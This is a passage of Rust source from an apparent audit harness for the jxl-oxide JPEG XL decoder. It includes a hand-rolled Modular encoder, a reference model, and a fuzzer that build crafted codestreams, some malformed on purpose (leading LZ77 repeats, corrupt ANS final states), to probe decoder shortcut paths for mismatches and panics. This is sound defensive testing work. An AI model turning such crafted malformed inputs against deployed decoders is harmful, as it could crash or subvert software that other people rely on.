    let mut chans = vec![Chan::new(w, h), Chan::new(w, h), Chan::new(w, h)];
    for c in &mut chans {
        for v in &mut c.data {
            *v = (rng(&mut seed) % 200) as i32;
        }
    }
    // general tree: mixes properties and predictors (forces decode_slow)
    let tree = d(
        0,
        0,
        d(
            17,
            100,
            d(3, 4, leaf(5), leaf_om(1, 0, 1)),
            d(22, 3, leaf(13), leaf(12)),
        ),
        d(9, 90, d(2, 2, leaf(4), leaf(7)), d(14, 0, leaf(9), leaf(3))),
    );
    let m = encode_modular(&tree, &chans, 0, &EncodeOpts::default());
    let cfg = ImgCfg {
        w,
        h,
        grey: false,
        bits: 8,
        narrow: true,
    };
    let bytes = build_codestream(&cfg, &m);
    std::fs::write("/tmp/audit_scratch_D/sanity.jxl", &bytes).unwrap();
    report("sanity i32", &chans, &decode_frame_api::<i32>(&bytes));
    report("sanity i16", &chans, &decode_frame_api::<i16>(&bytes));
    report("sanity top", &chans, &decode_top(&bytes, 8));
}

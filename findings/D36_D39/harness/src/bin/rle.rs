use harness::*;

fn image_from_residuals(w: usize, h: usize, pred: u32, res: &[i32]) -> Chan {
    let mut c = Chan::new(w, h);
    for y in 0..h {
        for x in 0..w {
            let p = predict(&c, x, y, pred);
            c.data[y * w + x] = (p + res[y * w + x] as i64) as i32;
        }
    }
    c
}

#[derive(Clone, Copy)]
enum E {
    Lit(i32),
    Rep(u32),
}

fn build(pred: u32, ans: bool, seq: &[E], final_state: u32, w: usize, h: usize) -> (Vec<u8>, Chan) {
    let split = 4;
    let len_split = 4;
    let mut ops = Vec::new();
    let mut res = Vec::new();
    let mut last = 0i32;
    for e in seq {
        match *e {
            E::Lit(v) => {
                ops.push(op_value(pack_signed(v), split));
                res.push(v);
                last = v;
            }
            E::Rep(n) => {
                ops.push(op_repeat(n, len_split));
                for _ in 0..n {
                    res.push(last);
                }
            }
        }
    }
    assert!(res.len() >= w * h);
    let chan = image_from_residuals(w, h, pred, &res);

    let mut m = BW::new();
    write_modular_prelude(&mut m, &leaf(pred));
    let lz = Some(Lz77Cfg {
        len_split_exp: len_split,
    });
    if ans {
        write_decoder_ans(
            &mut m,
            lz,
            &[0, 1],
            &[(split, AnsHist::Uniform256), (0, AnsHist::Single(1))],
        );
        emit_ans(&mut m, &ops, final_state, false);
    } else {
        write_decoder(
            &mut m,
            lz,
            &[0, 1],
            &[
                ClusterCfg {
                    split_exp: split,
                    hist: Hist::Uniform256,
                },
                ClusterCfg {
                    split_exp: 0,
                    hist: Hist::Single2(1),
                },
            ],
        );
        emit_prefix(&mut m, &ops);
    }
    let cfg = ImgCfg {
        w,
        h,
        grey: true,
        bits: 8,
        narrow: true,
    };
    (build_codestream(&cfg, &m), chan)
}

fn main() {
    quiet_panics();
    let (w, h) = (5usize, 3usize);
    let control = [
        E::Lit(4),
        E::Lit(2),
        E::Rep(5),
        E::Lit(-1),
        E::Lit(3),
        E::Rep(3),
        E::Lit(0),
        E::Lit(1),
        E::Lit(-2),
    ];
    let leading = [
        E::Rep(3),
        E::Lit(2),
        E::Lit(1),
        E::Rep(4),
        E::Lit(-1),
        E::Lit(3),
        E::Lit(0),
        E::Lit(1),
        E::Lit(-2),
        E::Lit(1),
    ];
    for (cname, ans) in [("prefix", false), ("ANS", true)] {
        for (pname, pred) in [("Gradient => fast-lossless RLE shortcut", 5u32), ("West => general LZ77 path", 1)] {
            let (bytes, chan) = build(pred, ans, &control, 0x130000, w, h);
            let name = format!("R0 control stream, {cname}, {pname}");
            std::fs::write(format!("/tmp/audit_scratch_D/rle_control_{cname}_{pred}.jxl"), &bytes).unwrap();
            report(&format!("{name} / i16"), &[chan.clone()], &decode_frame_api::<i16>(&bytes));
            report(&format!("{name} / top"), &[chan.clone()], &decode_top(&bytes, 8));
        }
    }
    println!("== R1: stream starts with an LZ77 repeat (nothing decoded yet) ==");
    for (cname, ans) in [("prefix", false), ("ANS", true)] {
        for (pname, pred) in [("Gradient => fast-lossless RLE shortcut", 5u32), ("West => general LZ77 path", 1)] {
            let (bytes, chan) = build(pred, ans, &leading, 0x130000, w, h);
            std::fs::write(format!("/tmp/audit_scratch_D/rle_leading_{cname}_{pred}.jxl"), &bytes).unwrap();
            let name = format!("R1 leading repeat, {cname}, {pname}");
            report(&format!("{name} / i16"), &[chan.clone()], &decode_frame_api::<i16>(&bytes));
            report(&format!("{name} / top"), &[chan.clone()], &decode_top(&bytes, 8));
        }
    }
    println!("== R2: ANS stream whose final state is NOT 0x130000 (corrupt checksum) ==");
    for (pname, pred) in [("Gradient => fast-lossless RLE shortcut", 5u32), ("West => general LZ77 path", 1)] {
        let (bytes, chan) = build(pred, true, &control, 0x130001, w, h);
        std::fs::write(format!("/tmp/audit_scratch_D/rle_badfinal_ANS_{pred}.jxl"), &bytes).unwrap();
        let name = format!("R2 bad ANS final state, {pname}");
        report(&format!("{name} / i16"), &[chan.clone()], &decode_frame_api::<i16>(&bytes));
        report(&format!("{name} / top"), &[chan.clone()], &decode_top(&bytes, 8));
    }
}

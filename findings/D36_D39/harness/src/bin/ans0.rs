use harness::*;

fn build(pred_a: u32, split_first: bool) -> (Vec<u8>, Vec<Chan>) {
    let (w, h) = (4usize, 3usize);
    // channel 0 -> leaf A (single-symbol cluster 1), channels 1,2 -> leaf B (uniform cluster 0, West)
    let tree = d(0, 0, leaf(1), leaf(pred_a));
    let mut m = BW::new();
    write_modular_prelude(&mut m, &tree);
    write_decoder_ans(
        &mut m,
        None,
        &[0, 1],
        &[(4, AnsHist::Uniform256), (4, AnsHist::Single(0))],
    );
    let mut rng = Rng(99);
    let mut chans = vec![Chan::new(w, h), Chan::new(w, h), Chan::new(w, h)];
    let mut ops = Vec::new();
    for _ in 0..w * h {
        ops.push(Op { sym: Sym::Free, raw: 0, nraw: 0 });
    }
    for ci in 1..3 {
        for y in 0..h {
            for x in 0..w {
                let diff = rng.range(-3, 3);
                let p = predict(&chans[ci], x, y, 1);
                chans[ci].data[y * w + x] = (p + diff as i64) as i32;
                ops.push(op_value(pack_signed(diff), 4));
            }
        }
    }
    emit_ans(&mut m, &ops, 0x130000, split_first);
    let cfg = ImgCfg { w, h, grey: false, bits: 8, narrow: true };
    (build_codestream(&cfg, &m), chans)
}

fn main() {
    quiet_panics();
    for (sname, split) in [("normal initial ANS state", false), ("initial ANS state word < 2^16 (renormalised on first symbol read)", true)] {
        for (pname, pred) in [("ch0 leaf Zero+single-symbol => hyper-fast path", 0u32), ("ch0 leaf West+single-symbol => general path", 1)] {
            let (bytes, chans) = build(pred, split);
            std::fs::write(format!("/tmp/audit_scratch_D/ans0_{}_{}.jxl", split as u8, pred), &bytes).unwrap();
            report(&format!("A: {sname}; {pname} / i16"), &chans, &decode_frame_api::<i16>(&bytes));
            report(&format!("A: {sname}; {pname} / top"), &chans, &decode_top(&bytes, 8));
        }
    }
}

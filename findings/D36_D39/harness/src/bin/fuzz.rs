use harness::*;
use std::collections::HashMap;

const PREDS: [u32; 13] = [0, 1, 2, 3, 4, 5, 7, 8, 9, 10, 11, 12, 13];

fn gen_tree(
    rng: &mut Rng,
    depth: u32,
    ranges: &HashMap<u32, (i32, i32)>,
    parent_prop: Option<u32>,
    props: &[u32],
    simple_leaves: bool,
) -> T {
    if depth == 0 || rng.below(100) < 15 {
        return if simple_leaves {
            leaf(5)
        } else {
            let pred = PREDS[rng.below(13) as usize];
            let off = if rng.below(3) == 0 { rng.range(-3, 3) } else { 0 };
            let mul = [1, 1, 1, 2, 3][rng.below(5) as usize];
            leaf_om(pred, off, mul)
        };
    }
    let prop = match parent_prop {
        Some(p) if rng.below(100) < 70 => p,
        _ => props[rng.below(props.len() as u32) as usize],
    };
    let (lo, hi) = *ranges.get(&prop).unwrap_or(&match prop {
        0 => (-1, 3),
        1 => (-1, 2),
        2 | 3 => (-1, 7),
        4 | 5 => (-1, 25),
        _ => (-25, 25),
    });
    if lo >= hi {
        return gen_tree(rng, 0, ranges, None, props, simple_leaves);
    }
    let red = std::env::var("RED").unwrap_or_default();
    let v = match red.as_str() {
        "below" => rng.range(lo - 10, hi - 1),
        "any" => rng.range(lo - 10, hi + 10),
        _ => rng.range(lo, hi - 1),
    };
    let mut lr = ranges.clone();
    lr.insert(prop, ((v + 1).max(lo), hi));
    let mut rr = ranges.clone();
    rr.insert(prop, (lo, v.min(hi)));
    let l = gen_tree(rng, depth - 1, &lr, Some(prop), props, simple_leaves);
    let r = gen_tree(rng, depth - 1, &rr, Some(prop), props, simple_leaves);
    d(prop, v, l, r)
}

fn main() {
    quiet_panics();
    let n: u32 = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(2000);
    let mut rng = Rng(20240926);
    let all_props: Vec<u32> = (0..15).chain(16..28).collect();
    let mut fails = 0;
    for it in 0..n {
        let grey = rng.below(4) == 0;
        let w = 1 + rng.below(7) as usize;
        let h = 1 + rng.below(6) as usize;
        let nch = if grey { 1 } else { 3 };
        let mode = rng.below(4);
        // mode 0: everything; 1: single property (tables); 2: single prop + uniform leaves (simple tables)
        let (props, simple): (Vec<u32>, bool) = match mode {
            0 | 3 => (all_props.clone(), false),
            1 => (vec![all_props[rng.below(all_props.len() as u32) as usize]], false),
            _ => (vec![[2u32, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 17, 19][rng.below(15) as usize]], true),
        };
        let depth = 2 + rng.below(5);
        let tree = gen_tree(&mut rng, depth, &HashMap::new(), None, &props, simple);
        let dims = vec![(w, h); nch];
        let (m, chans) = generate_modular(&tree, &dims, 0, &mut rng, 3);
        let cfg = ImgCfg { w, h, grey, bits: 8, narrow: true };
        let bytes = build_codestream(&cfg, &m);
        let r32 = decode_frame_api::<i32>(&bytes);
        let r16 = decode_frame_api::<i16>(&bytes);
        let ok32 = matches!(&r32, Ok(c) if c.iter().zip(&chans).all(|(a, b)| a == &b.data));
        let ok16 = matches!(&r16, Ok(c) if c.iter().zip(&chans).all(|(a, b)| a == &b.data));
        if !ok32 || !ok16 {
            fails += 1;
            if fails <= 5 {
                println!("iter {it}: mode {mode} {w}x{h}x{nch} FAIL");
                report("  i32", &chans, &r32);
                report("  i16", &chans, &r16);
                println!("  tree = {tree:?}");
                std::fs::write(format!("/tmp/audit_scratch_D/fuzz_fail_{it}.jxl"), &bytes).unwrap();
            }
        }
    }
    println!("fuzz: {n} iterations, {fails} failures");
}

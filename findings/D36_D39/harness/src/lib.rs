//! Tiny hand-rolled JPEG XL Modular *encoder* + independent reference model, used to
//! round-trip images through jxl-oxide's decoder shortcuts.
#![allow(dead_code)]

use std::collections::VecDeque;
use std::sync::Arc;

use jxl_bitstream::Bitstream;
use jxl_oxide_common::Bundle;

// ---------------------------------------------------------------- bit writer
#[derive(Clone, Default)]
pub struct BW {
    pub buf: Vec<u8>,
    pub bitpos: usize,
}

impl BW {
    pub fn new() -> Self {
        Self::default()
    }
    pub fn put(&mut self, v: u64, n: usize) {
        for i in 0..n {
            let bit = ((v >> i) & 1) as u8;
            if self.bitpos % 8 == 0 {
                self.buf.push(0);
            }
            let last = self.buf.last_mut().unwrap();
            *last |= bit << (self.bitpos % 8);
            self.bitpos += 1;
        }
    }
    pub fn bool(&mut self, b: bool) {
        self.put(b as u64, 1);
    }
    pub fn pad(&mut self) {
        while self.bitpos % 8 != 0 {
            self.put(0, 1);
        }
    }
    pub fn sel(&mut self, sel: u32, v: u32, n: usize) {
        self.put(sel as u64, 2);
        self.put(v as u64, n);
    }
    pub fn append(&mut self, other: &BW) {
        for i in 0..other.bitpos {
            let bit = (other.buf[i / 8] >> (i % 8)) & 1;
            self.put(bit as u64, 1);
        }
    }
}

// ---------------------------------------------------------------- tree
#[derive(Clone, Debug)]
pub enum T {
    D(u32, i32, Box<T>, Box<T>),
    L { pred: u32, off: i32, mul: u32 },
}

pub fn d(prop: u32, val: i32, l: T, r: T) -> T {
    T::D(prop, val, Box::new(l), Box::new(r))
}
pub fn leaf(pred: u32) -> T {
    T::L {
        pred,
        off: 0,
        mul: 1,
    }
}
pub fn leaf_om(pred: u32, off: i32, mul: u32) -> T {
    T::L { pred, off, mul }
}

#[derive(Clone, Debug)]
pub enum FNode {
    D {
        prop: u32,
        val: i32,
        l: usize,
        r: usize,
    },
    L {
        pred: u32,
        off: i32,
        mul: u32,
        ctx: usize,
    },
}

/// BFS order (the order in the bitstream).
pub fn flatten(t: &T) -> Vec<FNode> {
    let mut out = Vec::new();
    let mut q = VecDeque::new();
    q.push_back(t);
    let mut next = 1usize;
    let mut ctx = 0usize;
    while let Some(n) = q.pop_front() {
        match n {
            T::D(p, v, l, r) => {
                out.push(FNode::D {
                    prop: *p,
                    val: *v,
                    l: next,
                    r: next + 1,
                });
                next += 2;
                q.push_back(l);
                q.push_back(r);
            }
            T::L { pred, off, mul } => {
                out.push(FNode::L {
                    pred: *pred,
                    off: *off,
                    mul: *mul,
                    ctx,
                });
                ctx += 1;
            }
        }
    }
    out
}

pub fn pack_signed(v: i32) -> u32 {
    ((v << 1) ^ (v >> 31)) as u32
}

fn add_log2_ceil(x: u32) -> usize {
    (x + 1).next_power_of_two().trailing_zeros() as usize
}

/// hybrid uint with msb_in_token = lsb_in_token = 0
fn hybrid(v: u32, e: u32) -> (u32, usize, u32) {
    if (v as u64) < (1u64 << e) {
        (v, 0, 0)
    } else {
        let n = 31 - v.leading_zeros();
        ((1 << e) + (n - e), n as usize, v - (1 << n))
    }
}

fn put_sym8(w: &mut BW, tok: u32) {
    assert!(tok < 256);
    for i in (0..8).rev() {
        w.put(((tok >> i) & 1) as u64, 1);
    }
}

fn write_hist_uniform256(w: &mut BW) {
    w.put(0, 2); // hskip = 0 -> complex
    const ORDER: [usize; 18] = [1, 2, 3, 4, 0, 5, 17, 6, 16, 7, 8, 9, 10, 11, 12, 13, 14, 15];
    for idx in ORDER {
        if idx == 8 {
            w.put(2, 2); // code length 3
        } else {
            w.put(0, 2);
        }
    }
    // single code-length symbol (8) => zero bits for each of the 256 lengths
}

fn write_count256(w: &mut BW) {
    w.bool(true);
    w.put(7, 4);
    w.put(127, 7);
}

#[derive(Clone, Copy, Debug)]
pub enum Hist {
    Uniform256,
    /// prefix code with a single symbol `sym`, alphabet of 2 symbols
    Single2(u32),
}

#[derive(Clone, Copy, Debug)]
pub struct ClusterCfg {
    pub split_exp: u32,
    pub hist: Hist,
}

#[derive(Clone, Copy, Debug)]
pub struct Lz77Cfg {
    pub len_split_exp: u32,
}

/// Writes a `Decoder::parse` header. `cluster_map` has one entry per distribution (including the
/// extra LZ77 distance distribution if lz77 is enabled).
pub fn write_decoder(w: &mut BW, lz77: Option<Lz77Cfg>, cluster_map: &[u8], cfgs: &[ClusterCfg]) {
    if let Some(lz) = lz77 {
        w.bool(true);
        w.put(0, 2); // min_symbol = 224
        w.put(0, 2); // min_length = 3
        let e = lz.len_split_exp;
        w.put(e as u64, 4);
        if e != 8 {
            w.put(0, add_log2_ceil(e));
            w.put(0, add_log2_ceil(e));
        }
    } else {
        w.bool(false);
    }
    if cluster_map.len() > 1 {
        let maxc = *cluster_map.iter().max().unwrap() as u32;
        let nbits = (32 - maxc.leading_zeros()) as usize;
        assert!(nbits <= 3);
        w.bool(true);
        w.put(nbits as u64, 2);
        for &c in cluster_map {
            w.put(c as u64, nbits);
        }
    }
    w.bool(true); // use_prefix_code
    for c in cfgs {
        let e = c.split_exp;
        w.put(e as u64, 4);
        if e != 15 {
            w.put(0, add_log2_ceil(e));
            w.put(0, add_log2_ceil(e));
        }
    }
    for c in cfgs {
        match c.hist {
            Hist::Uniform256 => write_count256(w),
            Hist::Single2(_) => {
                w.bool(true);
                w.put(0, 4);
            }
        }
    }
    for c in cfgs {
        match c.hist {
            Hist::Uniform256 => write_hist_uniform256(w),
            Hist::Single2(sym) => {
                w.put(1, 2); // hskip = 1: simple
                w.put(0, 2); // nsym = 1
                w.put(sym as u64, 1);
            }
        }
    }
}

pub fn write_value(w: &mut BW, v: u32, cfg: &ClusterCfg) {
    let (tok, n, bits) = hybrid(v, cfg.split_exp);
    match cfg.hist {
        Hist::Uniform256 => put_sym8(w, tok),
        Hist::Single2(s) => assert_eq!(tok, s),
    }
    w.put(bits as u64, n);
}

pub fn write_tree(w: &mut BW, nodes: &[FNode]) {
    // tree decoder: 6 contexts, all cluster 0, split_exponent 0, uniform 256
    let cfg = ClusterCfg {
        split_exp: 0,
        hist: Hist::Uniform256,
    };
    write_decoder(w, None, &[0; 6], &[cfg]);
    for n in nodes {
        match *n {
            FNode::D { prop, val, .. } => {
                write_value(w, prop + 1, &cfg);
                write_value(w, pack_signed(val), &cfg);
            }
            FNode::L { pred, off, mul, .. } => {
                write_value(w, 0, &cfg);
                write_value(w, pred, &cfg);
                write_value(w, pack_signed(off), &cfg);
                let mul_log = mul.trailing_zeros();
                let mul_bits = (mul >> mul_log) - 1;
                write_value(w, mul_log, &cfg);
                write_value(w, mul_bits, &cfg);
            }
        }
    }
}

// ---------------------------------------------------------------- reference model
#[derive(Clone, Debug)]
pub struct Chan {
    pub w: usize,
    pub h: usize,
    pub data: Vec<i32>,
}

impl Chan {
    pub fn new(w: usize, h: usize) -> Self {
        Self {
            w,
            h,
            data: vec![0; w * h],
        }
    }
    pub fn at(&self, x: usize, y: usize) -> i64 {
        self.data[y * self.w + x] as i64
    }
}

pub struct Neigh {
    pub w: i64,
    pub n: i64,
    pub nw: i64,
    pub ne: i64,
    pub nn: i64,
    pub nee: i64,
    pub ww: i64,
}

pub fn neigh(c: &Chan, x: usize, y: usize) -> Neigh {
    let w = if x > 0 {
        c.at(x - 1, y)
    } else if y > 0 {
        c.at(x, y - 1)
    } else {
        0
    };
    let n = if y > 0 { c.at(x, y - 1) } else { w };
    let nw = if x > 0 && y > 0 { c.at(x - 1, y - 1) } else { w };
    let ne = if x + 1 < c.w && y > 0 { c.at(x + 1, y - 1) } else { n };
    let nn = if y > 1 { c.at(x, y - 2) } else { n };
    let nee = if x + 2 < c.w && y > 0 { c.at(x + 2, y - 1) } else { ne };
    let ww = if x > 1 { c.at(x - 2, y) } else { w };
    Neigh {
        w,
        n,
        nw,
        ne,
        nn,
        nee,
        ww,
    }
}

fn clampg(n: i64, w: i64, nw: i64) -> i64 {
    (n + w - nw).clamp(n.min(w), n.max(w))
}

/// Property value, per the spec, truncated to i32 like libjxl does.
pub fn prop(chans: &[Chan], ci: usize, stream: u32, x: usize, y: usize, p: u32) -> i32 {
    let c = &chans[ci];
    let nb = neigh(c, x, y);
    let v: i64 = match p {
        0 => ci as i64,
        1 => stream as i64,
        2 => y as i64,
        3 => x as i64,
        4 => nb.n.abs(),
        5 => nb.w.abs(),
        6 => nb.n,
        7 => nb.w,
        8 => {
            if x > 0 {
                let pb = neigh(c, x - 1, y);
                nb.w - (pb.w + pb.n - pb.nw)
            } else {
                nb.w
            }
        }
        9 => nb.w + nb.n - nb.nw,
        10 => nb.w - nb.nw,
        11 => nb.nw - nb.n,
        12 => nb.n - nb.ne,
        13 => nb.n - nb.nn,
        14 => nb.w - nb.ww,
        15 => panic!("WP property not modelled"),
        _ => {
            let k = ((p - 16) / 4) as usize;
            let which = (p - 16) % 4;
            // k-th previous channel with same dimensions
            let prev: Vec<usize> = (0..ci)
                .rev()
                .filter(|&j| chans[j].w == c.w && chans[j].h == c.h)
                .collect();
            match prev.get(k) {
                None => 0,
                Some(&j) => {
                    let r = &chans[j];
                    let rc = r.at(x, y);
                    let rw = if x > 0 { r.at(x - 1, y) } else { 0 };
                    let rn = if y > 0 { r.at(x, y - 1) } else { rw };
                    let rnw = if x > 0 && y > 0 { r.at(x - 1, y - 1) } else { rw };
                    let rg = clampg(rn, rw, rnw);
                    match which {
                        0 => rc.abs(),
                        1 => rc,
                        2 => (rc - rg).abs(),
                        _ => rc - rg,
                    }
                }
            }
        }
    };
    v as i32
}

pub fn predict(c: &Chan, x: usize, y: usize, pred: u32) -> i64 {
    let nb = neigh(c, x, y);
    match pred {
        0 => 0,
        1 => nb.w,
        2 => nb.n,
        3 => (nb.w + nb.n) / 2,
        4 => {
            let p = nb.w + nb.n - nb.nw;
            if (p - nb.w).abs() < (p - nb.n).abs() {
                nb.w
            } else {
                nb.n
            }
        }
        5 => clampg(nb.n, nb.w, nb.nw),
        6 => panic!("WP not modelled"),
        7 => nb.ne,
        8 => nb.nw,
        9 => nb.ww,
        10 => (nb.w + nb.nw) / 2,
        11 => (nb.n + nb.nw) / 2,
        12 => (nb.n + nb.ne) / 2,
        13 => (6 * nb.n - 2 * nb.nn + 7 * nb.w + nb.ww + nb.nee + 3 * nb.ne + 8) / 16,
        _ => panic!(),
    }
}

pub fn walk<'a>(
    nodes: &'a [FNode],
    chans: &[Chan],
    ci: usize,
    stream: u32,
    x: usize,
    y: usize,
) -> &'a FNode {
    let mut i = 0usize;
    loop {
        match nodes[i] {
            FNode::D { prop: p, val, l, r } => {
                let v = prop(chans, ci, stream, x, y, p);
                i = if v > val { l } else { r };
            }
            FNode::L { .. } => return &nodes[i],
        }
    }
}

// ---------------------------------------------------------------- modular stream
pub struct EncodeOpts {
    pub lz77_rle: bool,
    /// cluster split exponents; cluster of ctx i is i % len
    pub split_exps: Vec<u32>,
    /// force all contexts into cluster 0
    pub single_cluster: bool,
}

impl Default for EncodeOpts {
    fn default() -> Self {
        Self {
            lz77_rle: false,
            split_exps: vec![0, 1, 2, 3, 4, 5, 6, 7],
            single_cluster: false,
        }
    }
}

/// Returns bits for: ModularHeader (local tree) + MA tree + code + channel data
pub fn encode_modular(tree: &T, chans: &[Chan], stream: u32, opts: &EncodeOpts) -> BW {
    let nodes = flatten(tree);
    let nleaves = nodes
        .iter()
        .filter(|n| matches!(n, FNode::L { .. }))
        .count();
    let mut w = BW::new();
    w.bool(false); // use_global_tree
    w.bool(true); // default_wp
    w.put(0, 2); // nb_transforms = 0
    write_tree(&mut w, &nodes);

    let ncl = if opts.single_cluster {
        1
    } else {
        nleaves.min(opts.split_exps.len())
    };
    let mut cmap: Vec<u8> = (0..nleaves).map(|i| (i % ncl) as u8).collect();
    let mut cfgs: Vec<ClusterCfg> = (0..ncl)
        .map(|k| ClusterCfg {
            split_exp: opts.split_exps[k],
            hist: Hist::Uniform256,
        })
        .collect();
    assert!(!opts.lz77_rle, "use encode_modular_rle");
    if cmap.len() == 1 {
        cmap = vec![0];
    }
    cfgs.truncate(ncl);
    write_decoder(&mut w, None, &cmap, &cfgs);

    for ci in 0..chans.len() {
        let c = &chans[ci];
        for y in 0..c.h {
            for x in 0..c.w {
                let FNode::L {
                    pred,
                    off,
                    mul,
                    ctx,
                } = *walk(&nodes, chans, ci, stream, x, y)
                else {
                    unreachable!()
                };
                let p = predict(c, x, y, pred);
                let res = c.at(x, y) - p - off as i64;
                assert!(res % mul as i64 == 0, "residual not divisible");
                let diff = res / mul as i64;
                assert!(diff >= i32::MIN as i64 && diff <= i32::MAX as i64);
                let cfg = &cfgs[cmap[ctx] as usize];
                write_value(&mut w, pack_signed(diff as i32), cfg);
            }
        }
    }
    w
}

// ---------------------------------------------------------------- codestream
pub struct ImgCfg {
    pub w: usize,
    pub h: usize,
    pub grey: bool,
    pub bits: u32,
    pub narrow: bool,
}

pub fn build_codestream(cfg: &ImgCfg, modular: &BW) -> Vec<u8> {
    let mut w = BW::new();
    w.put(0xff, 8);
    w.put(0x0a, 8);
    // SizeHeader
    w.bool(false);
    w.sel(0, (cfg.h - 1) as u32, 9);
    w.put(0, 3);
    w.sel(0, (cfg.w - 1) as u32, 9);
    // ImageMetadata
    w.bool(false); // all_default
    w.bool(false); // extra_fields
    w.bool(false); // float_sample
    match cfg.bits {
        8 => w.put(0, 2),
        10 => w.put(1, 2),
        12 => w.put(2, 2),
        b => w.sel(3, b - 1, 6),
    }
    w.bool(cfg.narrow); // modular_16bit_buffers
    w.put(0, 2); // num_extra = 0
    w.bool(false); // xyb_encoded
    if cfg.grey {
        w.bool(false); // colour_encoding.all_default
        w.bool(false); // want_icc
        w.put(1, 2); // colour_space = Grey
        w.put(1, 2); // white_point = D65
        w.bool(false); // has_gamma
        w.sel(2, 13 - 2, 4); // tf = sRGB
        w.put(1, 2); // rendering intent = relative
    } else {
        w.bool(true);
    }
    w.put(0, 2); // extensions
    w.bool(true); // default_m
    w.pad();

    // FrameHeader
    w.bool(false); // all_default
    w.put(0, 2); // regular frame
    w.put(1, 1); // modular
    w.put(0, 2); // flags = 0
    w.bool(false); // do_ycbcr
    w.put(0, 2); // upsampling = 1
    w.put(1, 2); // group_size_shift = 1
    w.put(0, 2); // num_passes = 1
    w.bool(false); // have_crop
    w.put(0, 2); // blend mode replace
    w.bool(true); // is_last
    w.put(0, 2); // name len 0
    w.bool(false); // restoration_filter.all_default
    w.bool(false); // gab
    w.put(0, 2); // epf iters
    w.put(0, 2); // rf extensions
    w.put(0, 2); // extensions

    // section
    let mut s = BW::new();
    s.bool(true); // lf_dequant all_default
    s.bool(false); // no global tree
    s.append(modular);
    s.pad();
    for _ in 0..8 {
        s.put(0, 8);
    }
    let size = s.buf.len() as u32;

    // TOC
    w.bool(false);
    w.pad();
    if size < 1024 {
        w.sel(0, size, 10);
    } else if size < 17408 {
        w.sel(1, size - 1024, 14);
    } else {
        w.sel(2, size - 17408, 22);
    }
    w.pad();
    w.buf.extend_from_slice(&s.buf);
    w.buf
}

// ---------------------------------------------------------------- decoding through jxl-oxide
pub fn decode_frame_api<S: jxl_modular::Sample>(
    bytes: &[u8],
) -> Result<Vec<Vec<i32>>, String> {
    let res = std::panic::catch_unwind(|| -> Result<Vec<Vec<i32>>, String> {
        let mut bs = Bitstream::new(bytes);
        let hdr = jxl_image::ImageHeader::parse(&mut bs, ()).map_err(|e| format!("hdr: {e}"))?;
        let ctx = jxl_frame::FrameContext {
            image_header: Arc::new(hdr),
            tracker: None,
            pool: jxl_threadpool::JxlThreadPool::none(),
        };
        let mut frame = jxl_frame::Frame::parse(&mut bs, ctx).map_err(|e| format!("frame: {e}"))?;
        let off = bs.num_read_bits() / 8;
        frame
            .feed_bytes(&bytes[off..])
            .map_err(|e| format!("feed: {e}"))?;
        let lfg = frame
            .try_parse_lf_global::<S>()
            .ok_or("no lf_global")?
            .map_err(|e| format!("lf_global: {e}"))?;
        let img = lfg.gmodular.modular.image().ok_or("no image")?;
        Ok(img
            .image_channels()
            .iter()
            .map(|g| {
                let mut v = Vec::new();
                for y in 0..g.height() {
                    for x in 0..g.width() {
                        v.push(g.get_ref(x, y).to_i32());
                    }
                }
                v
            })
            .collect())
    });
    match res {
        Ok(r) => r,
        Err(p) => {
            let msg = if let Some(s) = p.downcast_ref::<String>() {
                s.clone()
            } else if let Some(s) = p.downcast_ref::<&str>() {
                s.to_string()
            } else {
                "?".into()
            };
            Err(format!("PANIC: {msg}"))
        }
    }
}

/// Decode with the public top-level API and convert back to integers.
pub fn decode_top(bytes: &[u8], bits: u32) -> Result<Vec<Vec<i32>>, String> {
    let res = std::panic::catch_unwind(|| -> Result<Vec<Vec<i32>>, String> {
        let image = jxl_oxide::JxlImage::builder()
            .read(bytes)
            .map_err(|e| format!("read: {e}"))?;
        let render = image.render_frame(0).map_err(|e| format!("render: {e}"))?;
        let maxv = ((1u64 << bits) - 1) as f32;
        Ok(render
            .image_planar()
            .iter()
            .map(|g| g.buf().iter().map(|&f| (f * maxv).round() as i32).collect())
            .collect())
    });
    match res {
        Ok(r) => r,
        Err(p) => {
            let msg = if let Some(s) = p.downcast_ref::<String>() {
                s.clone()
            } else if let Some(s) = p.downcast_ref::<&str>() {
                s.to_string()
            } else {
                "?".into()
            };
            Err(format!("PANIC: {msg}"))
        }
    }
}

pub fn report(name: &str, expect: &[Chan], got: &Result<Vec<Vec<i32>>, String>) -> bool {
    match got {
        Err(e) => {
            println!("[{name}] decode ERROR: {e}");
            false
        }
        Ok(chs) => {
            let mut bad = 0usize;
            let mut first = None;
            for (ci, (e, g)) in expect.iter().zip(chs).enumerate() {
                if g.len() != e.data.len() {
                    println!("[{name}] channel {ci} size mismatch {} vs {}", g.len(), e.data.len());
                    return false;
                }
                for i in 0..g.len() {
                    if g[i] != e.data[i] {
                        bad += 1;
                        if first.is_none() {
                            first = Some((ci, i % e.w, i / e.w, e.data[i], g[i]));
                        }
                    }
                }
            }
            if bad == 0 {
                println!("[{name}] OK (matches reference model)");
                true
            } else {
                let (ci, x, y, e, g) = first.unwrap();
                println!(
                    "[{name}] MISMATCH: {bad} samples differ; first at ch{ci} ({x},{y}): expected {e}, decoded {g}"
                );
                false
            }
        }
    }
}

// ---------------------------------------------------------------- generic token-level writer (prefix or ANS)
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Sym {
    /// symbol coded with the uniform 256-symbol code of its cluster
    U(u32),
    /// symbol from a single-symbol distribution: costs nothing
    Free,
}

#[derive(Clone, Copy, Debug)]
pub struct Op {
    pub sym: Sym,
    pub raw: u32,
    pub nraw: usize,
}

pub fn op_value(v: u32, split_exp: u32) -> Op {
    let (tok, n, bits) = hybrid(v, split_exp);
    Op {
        sym: Sym::U(tok),
        raw: bits,
        nraw: n,
    }
}

/// LZ77 repeat op: token = min_symbol(224) + len-token, len = value + min_length(3)
pub fn op_repeat(len: u32, len_split_exp: u32) -> Op {
    let (tok, n, bits) = hybrid(len - 3, len_split_exp);
    Op {
        sym: Sym::U(224 + tok),
        raw: bits,
        nraw: n,
    }
}

pub fn emit_prefix(w: &mut BW, ops: &[Op]) {
    for op in ops {
        if let Sym::U(s) = op.sym {
            put_sym8(w, s);
        }
        w.put(op.raw as u64, op.nraw);
    }
}

/// rANS, every coded symbol has probability 16/4096 (uniform over 256 symbols).
/// `first_word_split`: write the initial state as (state >> 16) followed by its low 16 bits, i.e.
/// an initial state word below 2^16 that the decoder renormalises on the first symbol read.
